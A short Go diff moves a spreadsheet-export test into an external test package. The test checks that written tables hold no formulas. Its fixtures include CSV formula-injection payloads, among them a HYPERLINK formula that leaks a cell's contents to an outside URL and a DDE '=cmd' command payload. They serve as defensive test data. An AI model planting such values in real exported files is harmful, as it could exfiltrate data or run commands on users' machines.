@@ -1,4 +1,4 @@
-package export
+package dataset_test
 
 import (
 	"bytes"
@@ -19,7 +19,7 @@ import (
 func TestWrittenTablesHoldNoFormula(t *testing.T) {
 	names := []string{"=HYPERLINK(\"http://example.com/?\"&A1)", "+a", "-b", "@SUM(A1)", "'=d", "plain"}
 	ids := []string{"=cmd|' /C calc'!A0", "-2+3", "\t=1", "''@x"}
-	r := Result{IDs: ids, ThetaName: "=θ", Theta: []float64{-1, 2, 3, -4}, Names: names, X: mat.NewDense(4, 6, slices.Repeat([]float64{-1.5, 2}, 12))}
+	r := dataset.Result{IDs: ids, ThetaName: "=θ", Theta: []float64{-1, 2, 3, -4}, Names: names, X: mat.NewDense(4, 6, slices.Repeat([]float64{-1.5, 2}, 12))}
 	var file bytes.Buffer
 	if err := r.Write(context.Background(), &file); err != nil {
 		t.Fatal(err)
